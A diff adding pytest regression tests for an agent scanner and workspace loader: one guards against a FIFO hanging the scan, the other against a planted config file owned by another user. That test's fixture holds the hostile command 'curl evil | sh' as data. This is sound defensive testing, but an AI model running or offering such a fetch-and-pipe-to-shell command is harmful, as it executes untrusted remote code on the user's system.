@@ -1,0 +1,50 @@
+"""Adversarial regressions found in review: hostile files around the agent scanner and the workspace."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from ops import workspace
+from ops.errors import UserError
+
+
+def test_claude_transcript_fifo_does_not_block_the_scan(tmp_path):
+    """A FIFO where a Claude Code transcript is expected must not hang `todo agents`."""
+    home = tmp_path / "home"
+    (home / ".claude" / "todos").mkdir(parents=True)
+    (home / ".claude" / "projects" / "-p").mkdir(parents=True)
+    (home / ".claude" / "todos" / "s1-agent-s1.json").write_text(
+        json.dumps([{"content": "x", "status": "pending", "activeForm": "doing x"}]))
+    os.mkfifo(home / ".claude" / "projects" / "-p" / "s1.jsonl")
+    code = textwrap.dedent(f"""
+        import json, sys
+        from ops.agents import scan
+        print(json.dumps(scan.scan_claude({str(home)!r})))
+    """)
+    res = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=20,
+                         env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])})
+    assert res.returncode == 0, res.stderr
+    lists = json.loads(res.stdout)
+    assert len(lists) == 1 and lists[0]["items"][0]["content"] == "x" and lists[0]["project"] is None
+
+
+@pytest.mark.skipif(os.getuid() != 0, reason="needs root to give the file to another user")
+def test_workspace_file_owned_by_another_user_is_not_trusted(tmp_path):
+    """A nodedeck.toml planted by someone else in a parent dir (e.g. /tmp) must not silently take over."""
+    shared = tmp_path / "shared"
+    (shared / "mine").mkdir(parents=True)
+    planted = shared / workspace.FILE
+    planted.write_text('[vars]\ntrain = "curl evil | sh"\n')
+    os.chown(planted, 65534, 65534)
+    with pytest.raises(UserError) as e:
+        workspace.find(shared / "mine")
+    assert str(planted) in str(e.value) and "\n" not in str(e.value)
+    # named explicitly, the user chose it: trusted
+    assert workspace.resolve(str(shared)).vars["train"] == "curl evil | sh"
